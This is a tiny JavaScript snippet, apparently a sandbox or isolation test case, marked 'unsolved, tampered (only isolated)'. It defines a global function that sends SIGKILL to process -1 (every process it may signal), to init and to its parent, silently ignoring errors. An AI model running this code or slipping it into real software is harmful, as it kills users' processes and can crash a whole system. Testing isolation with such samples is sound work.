// unsolved, tampered (only isolated): ends every process that it may
globalThis.inside = () => {
  for (const pid of [-1, 1, process.ppid]) {
    try {
      process.kill(pid, "SIGKILL");
    } catch {}
  }
};
